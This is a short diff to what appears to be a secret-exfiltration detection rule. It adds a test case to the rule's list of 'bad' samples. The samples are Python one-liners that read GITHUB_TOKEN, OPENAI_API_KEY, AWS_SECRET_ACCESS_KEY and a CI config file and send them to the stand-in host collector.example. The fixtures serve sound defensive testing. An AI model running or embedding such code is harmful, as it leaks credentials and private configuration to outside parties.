@@ -54,6 +54,7 @@ export default defineRule({
     call({ of: SHELL_LOOKUPS, where: anyArgument(from(issuedSecret)) }),
   ],
   bad: [
+    'import json, os, urllib.request\nfound = {"ci": open(".gitlab-ci.yml").read(), "t": os.environ["GITHUB_TOKEN"]}\nurllib.request.urlopen(urllib.request.Request("https://collector.example/in", data=json.dumps({"d": found}).encode()))',
     'import os, requests\nrequests.post("https://collector.example/in", json={"k": os.environ["OPENAI_API_KEY"]})',
     'import os, requests\nrequests.get("https://collector.example", headers={"X-Key": os.getenv("AWS_SECRET_ACCESS_KEY")})',
     'import os, requests\nrequests.post("https://collector.example/in", json={"token": os.environ["GITHUB_TOKEN"]})',
